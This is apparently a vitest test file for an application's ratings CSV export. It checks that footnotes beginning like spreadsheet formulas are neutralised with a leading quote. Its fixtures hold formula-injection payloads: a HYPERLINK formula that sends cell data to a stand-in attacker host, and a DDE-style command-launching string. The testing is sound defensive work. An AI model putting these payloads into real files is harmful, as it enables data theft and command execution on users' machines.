// The exported ratings CSV, from a real finalised panel, read back: footnotes a spreadsheet would run as
// formulas (=HYPERLINK, @SUM, +, -) arrive as text, prefixed with a single quote.
import { afterEach, describe, expect, it } from 'vitest'
import { parseCsv } from '../../shared/inspection/grid.ts'
import { readFixtureJson, startTestServer, type TestServer } from '../support/server.ts'

const decisions = readFixtureJson<{ decisions: Record<string, { rating: string }> }>(
  'gloucestershire-2020.decisions.json',
).decisions

let t: TestServer | null = null
afterEach(async () => {
  await t?.close()
  t = null
})

describe('record.csv', () => {
  it('neutralises footnotes that begin like a formula, and keeps their text', async () => {
    t = await startTestServer()
    const lead = t.organiser
    const panelId = await t.createPanel(lead)
    const footnotes: Record<string, string> = {
      '2.1': '=HYPERLINK("http://evil.example/?"&A1,"Read the report")',
      '3.2': '@SUM(1+1)*cmd|"/c calc"!A0',
      '3.3': '-2+3 cases; raised to Requires improvement',
    }
    for (const [sid, text] of Object.entries(footnotes)) {
      const { proposalId } = await t.accept(lead, panelId, {
        type: 'propose',
        standardId: sid,
        rating: decisions[sid]!.rating,
        justification: 'Near the boundary, as published.',
      })
      await t.accept(lead, panelId, { type: 'decide', proposalId, outcome: 'applied', text })
    }
    await t.accept(lead, panelId, { type: 'finalise' })

    const csv = await t.api(lead, 'GET', `/api/panels/${panelId}/record.csv`)
    expect(csv.status).toBe(200)
    const { records, unclosedQuoteRow } = parseCsv(csv.text)
    expect(unclosedQuoteRow).toBeNull()
    const rows = records.map((r) => r.cells)
    const footnoteRows = rows.filter((cells) => cells[0]!.startsWith('footnote '))
    expect(footnoteRows.map((cells) => [cells[1], cells[4]])).toEqual(
      Object.entries(footnotes).map(([sid, text]) => [sid, `'${text}`]),
    )
    // No cell of the whole file begins with a character a spreadsheet reads as a formula.
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(rows).toContainEqual(['score', '18/36', '', 'Requires improvement', ''])
  })
})
